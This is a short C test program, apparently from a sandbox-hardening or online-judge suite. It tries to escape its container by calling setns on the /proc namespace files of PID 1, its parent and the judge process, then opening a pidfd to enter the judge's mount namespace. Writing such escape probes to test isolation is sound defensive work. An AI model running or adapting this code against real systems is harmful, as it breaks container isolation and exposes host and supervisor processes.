// verdict: AC
// Enters the worlds of others, and its own anew.
#include "attack.h"

int main(void)
{
    learn();
    const char *names[] = { "user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time" };
    int numbers[] = { getpid(), 1, judge, getppid() };
    char path[64];
    for (int i = 0; i < 4; i++)
        for (int j = 0; j < 8; j++) {
            snprintf(path, sizeof path, "/proc/%d/ns/%s", numbers[i], names[j]);
            int file = open(path, O_RDONLY);
            if (file >= 0 && setns(file, 0) == 0)
                fell("entered %s", path);
        }
    int handle = (int)syscall(SYS_pidfd_open, judge, 0);
    if (handle >= 0)
        TRY(setns(handle, CLONE_NEWNS));
    return done();
}
